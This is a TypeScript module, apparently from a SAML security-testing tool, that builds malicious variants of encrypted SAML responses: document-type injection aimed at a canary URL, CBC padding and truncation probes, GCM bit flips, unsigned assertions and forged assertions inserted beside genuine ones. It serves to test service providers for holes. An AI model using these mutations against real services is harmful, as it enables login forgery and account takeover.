/** Encryption, right and wrong: what only the service provider can read, anybody who has its certificate can write. */

import { contentEncryption, digestMethods, keyTransport } from '../protocol/algorithms.ts';
import type { EncryptionPlan, Facts, Mutation, ResponsePlan } from '../protocol/types.ts';
import { insertAt } from '../protocol/xml-text.ts';
import { first } from './elements.ts';
import { doctypeOfCanary } from './doctype.ts';
import { asVictim, forgedAssertion } from './victim.ts';

/** The one strong combination that the common libraries all read (measured). */
const usual = { contentAlgorithm: contentEncryption.aes256Gcm, keyAlgorithm: keyTransport.rsaOaepMgf1p } as const;

/**
 * The algorithms are those of the honest twin, where the case's shape says that it is encrypted: a service provider that reads no
 * others (crewjam/saml before 0.5 reads AES-256 as CBC only) would refuse an attack for its algorithm, and a hole would go unseen.
 * @param which the preferred certificate of the service provider, or the one after it
 */
function encryption(facts: Facts, plan: ResponsePlan, which: Which = 'first'): EncryptionPlan {
  const { encryptionCertificate, encryptionCertificates = [] } = facts.sp;
  const certificate =
    which === 'second' ? encryptionCertificates[1] : (encryptionCertificate ?? encryptionCertificates[0]);
  if (certificate !== undefined) return { ...usual, ...plan.encryption, certificate };
  throw new Error(
    `Expected the service provider's ${which} encryption certificate, found none; the case does not apply.`,
  );
}

type Which = 'first' | 'second';

/** What is decrypted begins with a document type whose parts stand at the canary. */
export function doctypeInside(): Mutation {
  return {
    plan: (plan, facts) => ({
      ...plan,
      encryption: { ...encryption(facts, plan), prolog: doctypeOfCanary(facts.canaryUrl) },
    }),
  };
}

function encryptedWith(change: Partial<EncryptionPlan>, which: Which = 'first'): Mutation {
  return { plan: (plan, facts) => ({ ...plan, encryption: { ...encryption(facts, plan, which), ...change } }) };
}

/** Encrypts with this algorithm, the key under RSA-OAEP with SHA-1, to a certificate of the service provider. */
export function encryptedBy(content: keyof typeof contentEncryption): Mutation {
  return encryptedWith({ contentAlgorithm: contentEncryption[content] });
}

/** Encrypts to the certificate behind the preferred one. */
export function encryptedToSecond(): Mutation {
  return encryptedWith({}, 'second');
}

/** The OAEP of XML Encryption 1.1 with SHA-256; its mask keeps SHA-1. */
export function oaepSha256(): Mutation {
  return encryptedWith({ keyAlgorithm: keyTransport.rsaOaep, digestMethod: digestMethods.sha256 });
}

/** The padding of CBC ends with a byte that cannot be its length. */
export function wrongPadding(last: number): Mutation {
  return encryptedWith({
    contentAlgorithm: contentEncryption.aes256Cbc,
    padding: (length) => Buffer.concat([Buffer.alloc(length - 1, length), Buffer.from([last])]),
  });
}

/** The CipherValue of the content is cut to so many bytes. */
export function cutTo(bytes: number): Mutation {
  return encryptedWith({ contentAlgorithm: contentEncryption.aes256Cbc, ciphertext: (all) => all.subarray(0, bytes) });
}

/** Nobody signed anything; the assertion names the victim. */
export function unsignedInside(): Mutation {
  return { plan: (plan, facts) => ({ ...asVictim(plan, facts), signing: {}, encryption: encryption(facts, plan) }) };
}

/** A forged assertion that the attacker encrypted stands before the genuine one, which is signed and in clear. */
export function forgedEncryptedFirst(): Mutation {
  return {
    plan: (plan, facts) => ({ ...plan, encryption: { ...encryption(facts, plan), only: 0 } }),
    afterSigning: (xml, facts) => insertAt(xml, first(xml, 'Assertion').start, forgedAssertion(facts, facts.newId())),
  };
}

const gcmIvBytes = 12;

/**
 * One bit of the ciphertext is flipped where only the tag of GCM can notice: in the certificate that a signature inside
 * brings along, which it does not cover, or, without one, in the NameID.
 */
export function gcmBitFlipped(): Mutation {
  return encryptedWith({
    contentAlgorithm: contentEncryption.aes256Gcm,
    ciphertext: (bytes, text) => {
      const at = gcmIvBytes + Buffer.byteLength(text.slice(0, harmlessPlace(text)));
      const flipped = Buffer.from(bytes);
      flipped.writeUInt8(flipped.readUInt8(at) ^ 1, at);
      return flipped;
    },
  });
}

/** A letter that is another letter with its lowest bit flipped, so that the text stays readable. */
function harmlessPlace(text: string): number {
  const part = /<(?:[\w-]+:)?X509Certificate[^>]*>/.exec(text) ?? /<(?:[\w-]+:)?NameID[^>]*>/.exec(text);
  const from = part === null ? 0 : part.index + part[0].length;
  return from + text.slice(from).search(/[b-y]/);
}

/** The genuine assertion is encrypted; a forged one in clear stands before or behind it. */
export function forgedBesideEncrypted(where: 'before' | 'behind'): Mutation {
  const only = where === 'before' ? 1 : 0;
  return {
    plan: (plan, facts) => ({ ...plan, encryption: { ...encryption(facts, plan), only } }),
    afterSigning: (xml, facts) => {
      const genuine = first(xml, 'Assertion');
      const at = where === 'before' ? genuine.start : genuine.end;
      return insertAt(xml, at, forgedAssertion(facts, facts.newId()));
    },
  };
}
